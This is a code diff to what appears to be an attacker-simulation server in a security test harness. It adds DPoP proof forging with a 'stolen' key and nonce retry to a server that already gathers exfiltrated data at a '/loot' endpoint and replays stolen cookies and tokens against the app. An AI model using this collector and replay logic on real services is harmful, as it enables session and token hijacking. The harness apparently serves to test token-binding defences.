@@ -4,6 +4,7 @@ import { createServer, request as httpsRequest } from 'node:https'
 import type { IncomingMessage, ServerResponse } from 'node:http'
 import { APP } from './hosts.ts'
 import { findStoredToken, readCookieFile } from './cookie-file.ts'
+import { prove } from './own-proof.ts'
 import type { Answer, Ask, Orders, Published, Start } from './thief-orders.ts'
 
 const pages = new Map<string, Published>()
@@ -23,7 +24,7 @@ function take(body: string): void {
 
 async function serve(request: IncomingMessage, response: ServerResponse): Promise<void> {
   const url = new URL(request.url ?? '/', `https://${request.headers.host}`)
-  if (url.pathname === '/loot') {
+  if (url.pathname === '/loot' || url.pathname === '/nothing') {
     const chunks: Buffer[] = []
     for await (const chunk of request) chunks.push(chunk as Buffer)
     take(url.searchParams.get('d') ?? Buffer.concat(chunks).toString())
@@ -47,7 +48,24 @@ const fill = (text: string): string =>
     return value
   })
 
-function ask({ method = 'GET', path, headers = {}, body }: Ask): Promise<Answer> {
+/** The nonce that the server gave last (RFC 9449 §8). */
+let nonce: string | undefined
+
+/** Asks, and where the proof is to carry another nonce, once more. */
+async function ask(what: Ask): Promise<Answer> {
+  const given = nonce
+  const answer = await askOnce(what)
+  return what.prove !== undefined && answer.status === 401 && nonce !== given ? askOnce(what) : answer
+}
+
+function proofFor({ method = 'GET', path, headers = {}, prove: how }: Ask): Record<string, string> {
+  const stolen = how === 'stolen' ? loot.get('key') : undefined
+  const token = /^DPoP (.+)$/.exec(fill(headers['authorization'] ?? ''))?.[1]
+  return how === undefined ? {} : { dpop: prove({ method, url: APP + path, token, nonce }, stolen) }
+}
+
+function askOnce(what: Ask): Promise<Answer> {
+  const { method = 'GET', path, headers = {}, body } = what
   if (trust === undefined) throw new Error('not started')
   const cookies = [...jar].map(([name, value]) => `${name}=${value}`).join('; ')
   const filled = Object.fromEntries(Object.entries(headers).map(([name, value]) => [name, fill(value)]))
@@ -60,13 +78,20 @@ function ask({ method = 'GET', path, headers = {}, body }: Ask): Promise<Answer>
     agent: false,
     method,
     path,
-    headers: { host: hostname, 'user-agent': 'outside', ...(cookies && { cookie: cookies }), ...filled },
+    headers: {
+      host: hostname,
+      'user-agent': 'outside',
+      ...(cookies && { cookie: cookies }),
+      ...filled,
+      ...proofFor(what),
+    },
   } as const
   return new Promise((resolve, reject) => {
     const sent = httpsRequest(options, (response) => {
       const chunks: Buffer[] = []
       response.on('data', (chunk: Buffer) => chunks.push(chunk))
       response.on('end', () => {
+        nonce = response.headers['dpop-nonce']?.toString() ?? nonce
         for (const line of response.headers['set-cookie'] ?? []) {
           const [, name = '', value = ''] = /^([^=]*)=([^;]*)/.exec(line) ?? []
           if (value === '' || /max-age=0/i.test(line)) jar.delete(name)
@@ -112,6 +137,7 @@ const orders: Orders = {
     loot.clear()
     jar = new Map()
     reports = 0
+    nonce = undefined
     waiting.splice(0)
   },
   publish(page) {
